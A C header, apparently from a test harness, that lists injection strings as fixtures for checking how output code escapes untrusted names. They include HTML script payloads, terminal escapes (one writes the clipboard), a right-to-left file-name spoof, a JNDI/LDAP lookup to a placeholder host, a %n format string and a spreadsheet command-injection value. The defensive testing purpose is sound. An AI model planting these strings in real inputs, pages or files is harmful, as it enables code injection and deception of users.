/*
 * payloads.h - names that try to be something else, for every writer that shows
 * a name.  Bytes with their length: some hold NULs, some are not UTF-8.
 */
#ifndef ISC_HARNESS_PAYLOADS_H
#define ISC_HARNESS_PAYLOADS_H

#include <stddef.h>

typedef struct payload {
	const char *text;
	size_t len;
} payload;

#define PAYLOAD(text) {text, sizeof(text) - 1}

static const payload payloads[] = {
	/* HTML */
	PAYLOAD("<script>alert(1)</script>"),
	PAYLOAD("</script><script>alert(1)</script>"),
	PAYLOAD("</ScRiPt >"),
	PAYLOAD("</style><img src=x onerror=alert(1)>"),
	PAYLOAD("<svg/onload=alert(1)>"),
	PAYLOAD("<iframe srcdoc='<script>1</script>'>"),
	PAYLOAD("\"><b onmouseover=alert(1)>"),
	PAYLOAD("' onfocus='alert(1)' autofocus='"),
	PAYLOAD("<!-- opened"),
	PAYLOAD("--> closed"),
	PAYLOAD("<![CDATA[ x ]]>"),
	PAYLOAD("<?php echo 1 ?>"),
	PAYLOAD("&lt;script&gt;"),
	PAYLOAD("&#x3c;script&#x3e;"),
	PAYLOAD("</code></td></table><h1>owned</h1>"),
	/* Markdown */
	PAYLOAD("a | b | c"),
	PAYLOAD("|---|---|"),
	PAYLOAD("a\\|b"),
	PAYLOAD("\\\\|x"),
	PAYLOAD("`code`"),
	PAYLOAD("``` \n# heading\n```"),
	PAYLOAD("[click](javascript:alert(1))"),
	PAYLOAD("![img](http://example.invalid/x.png)"),
	PAYLOAD("http://example.invalid/`x`"),
	PAYLOAD("www.example.invalid<"),
	PAYLOAD("@everybody|x"),
	PAYLOAD("someone@example.invalid & co"),
	PAYLOAD("#1 and GH-1"),
	PAYLOAD("**bold** _em_ ~~gone~~ $math$"),
	PAYLOAD("line one\nline two\n\n# heading"),
	PAYLOAD("- item\n- item"),
	PAYLOAD("    indented"),
	PAYLOAD("trailing\\"),
	PAYLOAD(" "),
	/* terminals */
	PAYLOAD("\033[2J\033[H"),
	PAYLOAD("\033]0;title\007"),
	PAYLOAD("\033]52;c;ZXZpbA==\007"),
	PAYLOAD("over\rwritten"),
	PAYLOAD("back\b\b\b\bfront"),
	PAYLOAD("\177\001\002"),
	PAYLOAD("\302\233"
		"31m C1 control"),
	PAYLOAD("\302\205next line"),
	PAYLOAD("nul\0inside"),
	/* direction, separators, invisible */
	PAYLOAD("\342\200\256gnp.exe"),
	PAYLOAD("\342\201\246isolate\342\201\251"),
	PAYLOAD("\342\200\250line\342\200\251paragraph"),
	PAYLOAD("\330\234mark\342\200\217"),
	PAYLOAD("zero\342\200\213width"),
	PAYLOAD("\357\273\277bom"),
	PAYLOAD("\363\240\201\201tags"),
	/* not UTF-8 */
	PAYLOAD("\377\376"),
	PAYLOAD("cut\342\200"),
	PAYLOAD("\300\257overlong"),
	PAYLOAD("\340\200\257overlong"),
	PAYLOAD("\355\240\200surrogate"),
	PAYLOAD("\364\220\200\200beyond"),
	PAYLOAD("\200\200\200"),
	PAYLOAD("\370\210\200\200\200five"),
	/* JSON and shells */
	PAYLOAD("quote\" backslash\\ brace}"),
	PAYLOAD("\\u0000 \\ud800"),
	PAYLOAD("${jndi:ldap://example.invalid}"),
	PAYLOAD("%s%n%x"),
	PAYLOAD("=cmd|' /C calc'!A0"),
	PAYLOAD("__proto__"),
};

#define PAYLOADS (sizeof(payloads) / sizeof(payloads[0]))

#endif
